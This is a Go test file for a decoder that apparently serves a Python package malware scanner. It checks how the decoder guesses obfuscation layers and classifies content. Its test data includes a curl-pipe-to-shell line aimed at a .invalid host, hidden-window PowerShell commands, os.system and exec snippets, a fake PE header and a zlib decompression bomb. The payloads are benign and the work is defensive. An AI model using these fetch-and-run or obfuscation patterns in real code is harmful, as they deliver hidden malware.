package decode_test

import (
	"bytes"
	"compress/gzip"
	stdzlib "compress/zlib"
	"crypto/sha512"
	"encoding/ascii85"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"strings"
	"testing"
	"unicode/utf16"

	"pipwarden/scan/decode"
)

func packed(b []byte, open func(io.Writer) io.WriteCloser) []byte {
	var out bytes.Buffer
	w := open(&out)
	_, _ = w.Write(b)
	_ = w.Close()
	return out.Bytes()
}

func zlibbed(b []byte) []byte {
	return packed(b, func(w io.Writer) io.WriteCloser { return stdzlib.NewWriter(w) })
}

func gzipped(b []byte) []byte {
	return packed(b, func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) })
}

func wide(s string) []byte {
	var out []byte
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

func reversed(s string) string {
	b := []byte(s)
	for i := range len(b) / 2 {
		b[i], b[len(b)-1-i] = b[len(b)-1-i], b[i]
	}
	return string(b)
}

var b64 = base64.StdEncoding.EncodeToString

func TestGuess(t *testing.T) {
	ints := strings.Trim(strings.Join(strings.Fields(fmt.Sprint([]byte(program))), ", "), "[]")
	a85 := make([]byte, ascii85.MaxEncodedLen(len(program)))
	a85 = a85[:ascii85.Encode(a85, []byte(program))]
	pe := append(append([]byte("MZ"), make([]byte, 58)...), 64, 0, 0, 0, 'P', 'E', 0, 0)
	power := "Start-Process true -WindowStyle Hidden"
	for _, c := range []struct{ name, in, out string }{
		{"base64", b64([]byte(program)), program},
		{"base64", "  " + strings.ReplaceAll(b64([]byte(program)), "Cg", "Cg\n") + "\n", program},
		{"base64", b64([]byte(strings.Repeat(program, 100))), strings.Repeat(program, 100)},
		{"base64, base64", b64([]byte(b64([]byte(program)))), program},
		{"base64, zlib", b64(zlibbed([]byte(strings.Repeat(program, 9)))), strings.Repeat(program, 9)},
		{"gzip", string(gzipped([]byte(program))), program},
		{"hex, zlib, base64", hex.EncodeToString(zlibbed([]byte(b64([]byte(program))))), program},
		{"base64", b64(pe), string(pe)},
		{"base64", b64([]byte("https://host.invalid/x")), "https://host.invalid/x"},
		{"base64, utf-16", b64(wide(power)), power},
		{"reverse, base64", reversed(b64([]byte(program + "!"))), program + "!"},
		{"base32", base32.StdEncoding.EncodeToString([]byte(program)), program},
		{"hex", hex.EncodeToString([]byte(program)), program},
		{"escapes", `\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x20\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x31\x29`, "import os; os.system(1)"},
		{"integers", "[" + ints + "]", program},
		{"integers", strings.ReplaceAll(ints, ", ", " "), program},
		{"ascii85", string(a85), program},
		{"rot13", "vzcbeg bf\nbf.flfgrz('gehr')", "import os\nos.system('true')"},
	} {
		if c.name == "reverse, base64" && c.in[0] != '=' {
			t.Fatalf("%q needs padding", c.in)
		}
		name, out, ok := decode.Guess([]byte(c.in))
		if name != c.name || string(out) != c.out || !ok {
			t.Errorf("Guess(%.60q) = %q, %.60q, %v; want %q, %.60q", c.in, name, out, ok, c.name, c.out)
		}
	}
}

func TestGuessSilent(t *testing.T) {
	sum := sha512.Sum512([]byte("x"))
	for _, in := range []string{
		"", "short", strings.Repeat(" \n", 20), "The quick brown fox jumps over the lazy dog, and so on and on.",
		"getElementsByClassNameAndSomethingElse", "some_long_identifier_of_a_test_function_name_here",
		hex.EncodeToString(sum[:]), b64(sum[:]), base64.URLEncoding.EncodeToString(sum[:32]), base32.StdEncoding.EncodeToString(sum[:40]),
		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "0123456789abcdef0123456789abcdef", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
		"1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20", "3.14.15.92.65.35.89.79.32.38.46.26.43.38.32.79.50.28",
		"/usr/lib/python3/dist-packages/something/else/here.py", "https://host.invalid/some/path/of/a/page",
		program, "SELECT * FROM t WHERE a = 1 AND b = 2", "550e8400-e29b-41d4-a716-446655440000",
		"................................................", "================================================",
		"MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJRTESMBAGA1UEChMJQmFsdGltb3JlMRMwEQYDVQQLEwpDeWJlclRydXN0MSIwIAYDVQQDExlC",
		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
		"%Y-%m-%d %H:%M:%S %Z and so on", "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~",
		b64([]byte("user:password")), b64([]byte("hello world")),
	} {
		if name, out, ok := decode.Guess([]byte(in)); ok {
			t.Errorf("Guess(%q) = %q, %.80q", in, name, out)
		}
	}
}

func TestContentOf(t *testing.T) {
	for _, c := range []struct {
		in   string
		want decode.Content
	}{
		{program, decode.ContentPython},
		{"x = 1;import os;os.system('true')", decode.ContentPython},
		{"exec(open('x').read())", decode.ContentPython},
		{"https://host.invalid/x?y", decode.ContentURL},
		{"powershell -w hidden -c true", decode.ContentPowerShell},
		{"#!/bin/sh\ntrue\n", decode.ContentShell},
		{"cd /tmp && curl -s https://host.invalid/x | sh", decode.ContentShell},
		{"@echo off\r\ndir\r\n", decode.ContentBatch},
		{"Set s = CreateObject(\"x\")", decode.ContentScript},
		{"The import of goods from other countries, of some class.", decode.ContentText},
		{"\x00\x01\x02\x03\x04\x05\x06\x07", decode.ContentUnknown},
		{"PK\x03\x04\x00\x00\x00\x00\x00\x00\x00\x00", decode.ContentZip},
		{string(zlibbed([]byte(program))), decode.ContentZlib},
		{"\xcb\r\r\n" + strings.Repeat("\x00", 20), decode.ContentPyc},
	} {
		if got := decode.ContentOf([]byte(c.in)); got != c.want {
			t.Errorf("ContentOf(%.40q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestGuessHostile are literals whose reading could take long or fail.
func TestGuessHostile(t *testing.T) {
	bomb := zlibbed(make([]byte, 64<<20))
	for _, in := range [][]byte{
		bomb, []byte(b64(bomb)), []byte(strings.Repeat("QUFB", 1<<20)), []byte(strings.Repeat("41", 1<<20)), []byte(strings.Repeat("1,", 1<<20)),
		[]byte(strings.Repeat(`\x41`, 1<<20)), []byte(strings.Repeat("=", 1<<20)), []byte(strings.Repeat("\\", 1<<20)), bytes.Repeat([]byte{0}, 1<<20),
	} {
		if _, out, _ := decode.Guess(in); len(out) > decode.DefaultLimit+len(in) {
			t.Errorf("%d bytes", len(out))
		}
	}
}
